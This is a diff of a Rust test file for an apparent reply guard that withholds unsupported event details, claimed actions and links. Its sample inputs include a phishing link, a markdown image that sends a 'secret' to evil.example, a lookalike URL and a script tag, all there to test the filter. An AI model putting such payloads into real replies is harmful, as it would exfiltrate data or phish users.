@@ -72,7 +72,7 @@ fn what_is_so_is_shown_as_it_is() {
 fn what_is_not_so_is_held_back_and_its_field_remembered() {
     let table = [
         ("It is on February 19 2027.", Field::DateTime),
-        ("Doors open at 9pm.", Field::DateTime),
+        ("Doors open at 5pm.", Field::DateTime),
         ("See you next Sunday at noon.", Field::DateTime),
         ("Guests pay $40.", Field::PriceCents),
         ("There is room for 300 people.", Field::Capacity),
@@ -85,7 +85,7 @@ fn what_is_not_so_is_held_back_and_its_field_remembered() {
         assert!(wrong.contains(&field), "{lie}: {wrong:?}");
         assert!(out.starts_with("Lovely!") && out.ends_with("Ask me anything."), "{lie}: {out}");
         assert!(!out.contains(lie), "{lie}: {out}");
-        for word in ["19", "9pm", "noon", "40", "300", "Vancouver", "Rex", "five"] {
+        for word in ["19", "5pm", "noon", "40", "300", "Vancouver", "Rex", "five"] {
             assert!(!out.contains(word), "{lie}: {out}");
         }
     }
@@ -104,6 +104,7 @@ fn acts_links_and_instructions_are_held_back() {
         "Your card was charged.",
         "Click https://evil.example/login now.",
         "Look: ![x](https://evil.example/?q=secret)",
+        "Your page is https://events.example.evil.net/e/harbour-lights by now.",
         "J'ai publié votre événement.",
         "你的活动已发布。",
         "<script>alert(1)</script>",
@@ -155,6 +156,7 @@ fn an_answer_ends_where_it_was_agreed_and_of_a_half_sentence_no_more_is_shown() 
         public_url: "",
     };
     let mut guard = Guard::new(Known::from(&sources), 400);
-    let out = guard.take("Lovely. The best day would be on Fri");
+    let pieces = ["Lovely. ", "The best day ", "would be on ", "Fri"];
+    let out: String = pieces.iter().map(|piece| guard.take(piece)).collect();
     assert_eq!(out + &guard.end(false), "Lovely. The best day would be on …");
 }
